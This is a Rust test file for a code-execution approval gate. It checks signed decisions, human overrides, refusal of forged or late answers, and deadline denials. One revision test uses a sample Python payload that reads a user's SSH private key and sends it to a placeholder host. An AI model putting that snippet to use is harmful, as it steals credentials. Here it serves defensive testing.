//! The gate against a real nats-server: policy decisions, signatures, overrides answered,
//! forged and late answers refused, deadlines.

use airlock_bus::Publisher;
use airlock_bus::testing::NatsServer;
use airlock_override_gate::{Config, PendingOverride};
use airlock_protocol::decision::DECISION_DOMAIN;
use airlock_protocol::event::Assessed;
use airlock_protocol::overrides::ANSWER_DOMAIN;
use airlock_protocol::*;
use futures::StreamExt as _;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

struct Harness {
    _server: NatsServer,
    client: async_nats::Client,
    events: async_nats::Subscriber,
    gate_key: VerifierKey,
    approver: SigningKey,
    shutdown: CancellationToken,
    _dir: tempfile::TempDir,
}

impl Harness {
    async fn start(override_timeout_secs: u64) -> Harness {
        let server = NatsServer::start().await;
        let dir = tempfile::tempdir().unwrap();
        let approver = SigningKey::generate("test/approver").unwrap();
        let config = Config {
            key_file: dir.path().join("gate.key"),
            key_name: "test/gate".into(),
            approver_keys: vec![approver.verifier().to_string()],
            override_timeout: std::time::Duration::from_secs(override_timeout_secs),
            ..Config::default()
        };
        let gate_key = SigningKey::load_or_generate(&config.key_file, "test/gate")
            .unwrap()
            .verifier();
        let client = server.client().await;
        let events = client.subscribe("airlock.>").await.unwrap();
        let shutdown = CancellationToken::new();
        let gate_client = server.client().await;
        tokio::spawn(airlock_override_gate::run(gate_client, config, shutdown.clone()));
        Harness {
            _server: server,
            client,
            events,
            gate_key,
            approver,
            shutdown,
            _dir: dir,
        }
    }

    fn publisher(&self, producer: Producer) -> Publisher {
        Publisher::new(
            async_nats::jetstream::new(self.client.clone()),
            producer,
            CancellationToken::new(),
        )
    }

    async fn assessed(&self, rid: &RequestId, level: Level, trust: TrustLevel) -> ExecutionRequest {
        self.publish_assessment(rid, assessment(level), trust).await
    }

    async fn publish_assessment(&self, rid: &RequestId, assessment: Assessment, trust: TrustLevel) -> ExecutionRequest {
        self.publish_request(rid, request(trust), assessment).await
    }

    async fn publish_request(
        &self,
        rid: &RequestId,
        request: ExecutionRequest,
        assessment: Assessment,
    ) -> ExecutionRequest {
        let assessed = Assessed {
            request_digest: Some(request.request_digest(rid, &[])),
            request: request.clone(),
            assessment,
        };
        self.publisher(Producer::Assessor)
            .emit(rid, Event::Assessed(Box::new(assessed)))
            .await
            .unwrap();
        request
    }

    /// The next event of `kind` for `rid`.
    async fn next(&mut self, rid: &RequestId, kind: EventKind) -> Envelope {
        let wait = async {
            while let Some(message) = self.events.next().await {
                if let Ok(envelope) = Envelope::decode(&message.payload)
                    && &envelope.request_id == rid
                    && envelope.kind() == kind
                {
                    return envelope;
                }
            }
            panic!("event stream ended");
        };
        tokio::time::timeout(Duration::from_secs(15), wait)
            .await
            .unwrap_or_else(|_| panic!("no {kind} event for {rid}"))
    }

    fn verify(&self, envelope: &Envelope) -> (Decision, Decided) {
        let Event::Decided(decided) = &envelope.event else {
            panic!("not a decision: {envelope:?}")
        };
        let (decision, _) = decided
            .signed
            .verify::<Decision>(
                DECISION_DOMAIN,
                "decision",
                &VerifierSet::new(vec![self.gate_key.clone()]),
            )
            .expect("the decision verifies with the gate's key");
        (decision, (**decided).clone())
    }

    async fn answer(&self, rid: &RequestId, digest: CodeDigest, approve: bool, key: &SigningKey) {
        let answer = OverrideAnswer {
            request_id: rid.clone(),
            execution_digest: digest,
            approve,
            reason: "checked by a test".into(),
            who: "tester".into(),
            answered_at_ms: now_ms(),
            via: None,
            approve_again_for_ms: None,
            refused_at_edge: None,
        };
        let signed = Signed::sign(&answer, ANSWER_DOMAIN, key);
        self.publisher(Producer::Operator)
            .emit(rid, Event::OverrideAnswered(OverrideAnswered { signed }))
            .await
            .unwrap();
    }

    async fn pending(&self) -> Vec<PendingOverride> {
        let reply = self.client.request("airlock.gate.pending", "".into()).await.unwrap();
        serde_json::from_slice(&reply.payload).unwrap()
    }
}

impl Drop for Harness {
    fn drop(&mut self) {
        self.shutdown.cancel();
    }
}

fn request(trust: TrustLevel) -> ExecutionRequest {
    ExecutionRequest::new(Language::Python, b"print('x')\n".to_vec())
        .origin(Origin::External)
        .trust(trust)
        .label("x.py")
}

fn assessment(level: Level) -> Assessment {
    Assessment {
        level,
        findings: vec![],
        parse: ParseStatus::Complete,
        summary: format!("rated {level} by a test"),
        language: Language::Python,
        origin: Origin::External,
        rules_version: "test".into(),
        threats_version: "test".into(),
        elapsed_us: 1,
        unanalysed: false,
        packages: vec![],
    }
}

#[tokio::test]
async fn low_is_approved_with_the_requested_quota_and_a_valid_signature() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new_for("mai").unwrap();
    let request = h.assessed(&rid, Level::Low, TrustLevel::Trusted).await;
    let envelope = h.next(&rid, EventKind::Decided).await;
    let (decision, decided) = h.verify(&envelope);
    assert_eq!(decision.request_id, rid);
    assert_eq!(decision.code_digest, request.code_digest());
    let DecisionOutcome::Approved { .. } = &decision.outcome else {
        panic!("not approved")
    };
    let grant = decision.outcome.grant().expect("a grant");
    assert_eq!(
        decision.execution_digest,
        digest::execution_digest(&request.request_digest(&rid, &[]), &grant),
        "the decision signs the execution digest of the request with its grant"
    );
    assert!(decision.expires_at_ms > now_ms());
    assert!(matches!(
        decision.outcome,
        DecisionOutcome::Approved {
            quota: TrustLevel::Trusted,
            ..
        }
    ));
    assert_eq!(decided.request.as_ref(), Some(&request));
}

#[tokio::test]
async fn high_gets_the_untrusted_quota_whatever_it_asked_for() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new_for("mai").unwrap();
    h.assessed(&rid, Level::High, TrustLevel::Trusted).await;
    let (decision, _) = {
        let e = h.next(&rid, EventKind::Decided).await;
        h.verify(&e)
    };
    match decision.outcome {
        DecisionOutcome::Approved { quota, limits, .. } => {
            assert_eq!(quota, TrustLevel::Untrusted);
            assert_eq!(limits, airlock_override_gate::Quotas::default().untrusted);
        }
        other => panic!("expected approval, got {other:?}"),
    }
}

/// Issue 20: code the assessor could not analyse is never approved by policy alone, whatever
/// the level (the default policy approves HIGH with the untrusted quota).
#[tokio::test]
async fn unanalysed_code_waits_for_a_human_whatever_its_level() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new();
    let mut unanalysed = assessment(Level::High);
    unanalysed.unanalysed = true;
    h.publish_assessment(&rid, unanalysed, TrustLevel::Trusted).await;
    h.next(&rid, EventKind::OverrideAsked).await;
    assert!(
        h.pending().await.iter().any(|p| p.request_id == rid),
        "not listed as pending"
    );
}

#[tokio::test]
async fn blocked_waits_for_a_human_and_runs_only_after_a_signed_approval() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new_for("mai").unwrap();
    let request = h.assessed(&rid, Level::Blocked, TrustLevel::Trusted).await;
    let asked = h.next(&rid, EventKind::OverrideAsked).await;
    let shown = {
        let Event::OverrideAsked(asked) = &asked.event else {
            unreachable!()
        };
        asked.execution_digest.clone()
    };
    // What the human is shown is the request run with what an approval grants.
    let grant = {
        let Event::OverrideAsked(asked) = &asked.event else {
            unreachable!()
        };
        asked.grant.clone().expect("the grant is shown")
    };
    assert_eq!(
        shown,
        digest::execution_digest(&request.request_digest(&rid, &[]), &grant)
    );
    let Event::OverrideAsked(asked) = asked.event else {
        unreachable!()
    };
    assert!(asked.explanation.contains("BLOCKED"), "{}", asked.explanation);
    assert!(
        h.pending().await.iter().any(|p| p.request_id == rid),
        "not listed as pending"
    );

    // An answer by a key the gate does not trust changes nothing.
    let stranger = SigningKey::generate("test/approver").unwrap();
    h.answer(&rid, shown.clone(), true, &stranger).await;
    let refused = h.next(&rid, EventKind::Refused).await;
    let Event::Refused(refusal) = refused.event else {
        unreachable!()
    };
    assert_eq!(refusal.reason, RefusalReason::UnknownSigner);
    // An answer for other code changes nothing either.
    let approver = h.approver.clone();
    h.answer(&rid, CodeDigest::of(b"other code"), true, &approver).await;
    let Event::Refused(refusal) = h.next(&rid, EventKind::Refused).await.event else {
        unreachable!()
    };
    assert_eq!(refusal.reason, RefusalReason::DigestMismatch);
    assert!(
        h.pending().await.iter().any(|p| p.request_id == rid),
        "forged answers decided the request"
    );

    // Nor does an answer for the code alone: it signs what runs, not part of it.
    h.answer(&rid, request.code_digest(), true, &approver).await;
    let Event::Refused(refusal) = h.next(&rid, EventKind::Refused).await.event else {
        unreachable!()
    };
    assert_eq!(refusal.reason, RefusalReason::DigestMismatch);
    h.answer(&rid, shown.clone(), true, &approver).await;
    let (decision, _) = {
        let e = h.next(&rid, EventKind::Decided).await;
        h.verify(&e)
    };
    assert!(matches!(
        decision.outcome,
        DecisionOutcome::Approved {
            quota: TrustLevel::Untrusted,
            ..
        }
    ));
    assert!(matches!(decision.approver, Approver::Human { ref who, .. } if who == "tester"));
    assert!(
        !h.pending().await.iter().any(|p| p.request_id == rid),
        "still pending after the answer"
    );

    // A second answer comes too late.
    h.answer(&rid, shown, false, &approver).await;
    let Event::Refused(refusal) = h.next(&rid, EventKind::Refused).await.event else {
        unreachable!()
    };
    assert_eq!(refusal.reason, RefusalReason::NotPending);
}

#[tokio::test]
async fn a_denial_ends_the_request() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new_for("mai").unwrap();
    h.assessed(&rid, Level::Blocked, TrustLevel::Unknown).await;
    let Event::OverrideAsked(asked) = h.next(&rid, EventKind::OverrideAsked).await.event else {
        unreachable!()
    };
    let approver = h.approver.clone();
    h.answer(&rid, asked.execution_digest, false, &approver).await;
    let (decision, decided) = {
        let e = h.next(&rid, EventKind::Decided).await;
        h.verify(&e)
    };
    assert!(matches!(decision.outcome, DecisionOutcome::Denied { .. }));
    assert!(decided.request.is_none(), "a denial must not carry runnable code");
    let Event::Terminal(terminal) = h.next(&rid, EventKind::Terminal).await.event else {
        unreachable!()
    };
    assert_eq!(terminal.outcome, Outcome::Denied);
    assert_eq!(terminal.decision.as_ref().map(|d| d.decision.as_str()), Some("denied"));
}

#[tokio::test]
async fn no_answer_before_the_deadline_is_a_denial() {
    let mut h = Harness::start(1).await;
    let rid = RequestId::new_for("mai").unwrap();
    h.assessed(&rid, Level::Blocked, TrustLevel::Unknown).await;
    h.next(&rid, EventKind::OverrideAsked).await;
    let (decision, _) = {
        let e = h.next(&rid, EventKind::Decided).await;
        h.verify(&e)
    };
    assert_eq!(decision.approver, Approver::Deadline);
    let Event::Terminal(terminal) = h.next(&rid, EventKind::Terminal).await.event else {
        unreachable!()
    };
    assert_eq!(terminal.outcome, Outcome::Denied);
    assert!(terminal.reason.unwrap_or_default().contains("deadline"));
}

#[tokio::test]
async fn malformed_and_mislabelled_messages_are_refused_not_fatal() {
    let mut h = Harness::start(60).await;
    let rid = RequestId::new_for("mai").unwrap();
    let js = async_nats::jetstream::new(h.client.clone());
    js.publish(format!("airlock.assessed.{rid}"), "not msgpack".into())
        .await
        .unwrap()
        .await
        .unwrap();
    let Event::Refused(refusal) = h.next(&rid, EventKind::Refused).await.event else {
        unreachable!()
    };
    assert_eq!(refusal.reason, RefusalReason::Malformed);

    // The gate still works afterwards.
    let rid2 = RequestId::new_for("mai").unwrap();
    h.assessed(&rid2, Level::Low, TrustLevel::Unknown).await;
    h.next(&rid2, EventKind::Decided).await;
}

/// What the approver of a revision is told: the request it revises, how that was decided, and
/// what changed; the same code decided before is named even when nothing says so; another
/// client's request is never shown.
#[tokio::test]
async fn a_revision_comes_with_the_earlier_decision_and_the_diff() {
    let mut h = Harness::start(60).await;
    let approver = h.approver.clone();
    let steal = |url: &str| {
        ExecutionRequest::new(
            Language::Python,
            format!("key = open('/home/u/.ssh/id_rsa').read()\nsend('{url}', key)\nprint('done')\n").into_bytes(),
        )
        .origin(Origin::External)
    };
    let first = RequestId::new_for("mai").unwrap();
    h.publish_request(&first, steal("http://203.0.113.9/k"), assessment(Level::Blocked))
        .await;
    let Event::OverrideAsked(asked) = h.next(&first, EventKind::OverrideAsked).await.event else {
        unreachable!()
    };
    assert_eq!(asked.earlier, None, "a first request has no history");
    h.answer(&first, asked.execution_digest, false, &approver).await;
    h.next(&first, EventKind::Terminal).await;

    let revision = RequestId::new_for("mai").unwrap();
    let revised = steal("https://paste.example/k").revises(Some(first.clone()));
    h.publish_request(&revision, revised, assessment(Level::Blocked)).await;
    let Event::OverrideAsked(asked) = h.next(&revision, EventKind::OverrideAsked).await.event else {
        unreachable!()
    };
    let earlier = asked.earlier.expect("the revised request is shown");
    assert_eq!(earlier.request_id, first);
    assert_eq!(earlier.relation, EarlierRelation::Revises);
    let decision = earlier.decision.expect("how it was decided");
    assert!(!decision.approved);
    assert!(
        matches!(&decision.approver, Approver::Human { who, reason, .. } if who == "tester" && reason == "checked by a test"),
        "{decision:?}"
    );
    let diff = earlier.diff.expect("the diff");
    assert!(
        diff.contains("-send('http://203.0.113.9/k', key)\n+send('https://paste.example/k', key)\n"),
        "{diff}"
    );

    // The very same code again, without `revises`: named as seen before.
    let again = RequestId::new_for("mai").unwrap();
    h.publish_request(&again, steal("http://203.0.113.9/k"), assessment(Level::Blocked))
        .await;
    let Event::OverrideAsked(asked) = h.next(&again, EventKind::OverrideAsked).await.event else {
        unreachable!()
    };
    let earlier = asked.earlier.expect("the same code decided before is named");
    assert_eq!(
        (earlier.request_id, earlier.relation),
        (first.clone(), EarlierRelation::SameCode)
    );
    assert!(earlier.decision.is_some_and(|d| !d.approved));

    // Another client naming mai's request learns nothing of it.
    let stranger = RequestId::new_for("other").unwrap();
    let claims = steal("https://paste.example/k").revises(Some(first.clone()));
    h.publish_request(&stranger, claims, assessment(Level::Blocked)).await;
    let Event::OverrideAsked(asked) = h.next(&stranger, EventKind::OverrideAsked).await.event else {
        unreachable!()
    };
    let earlier = asked.earlier.expect("what it claims is said");
    assert!(earlier.decision.is_none() && earlier.diff.is_none(), "{earlier:?}");
    assert!(earlier.missing.is_some_and(|m| m.contains("another client")));
}
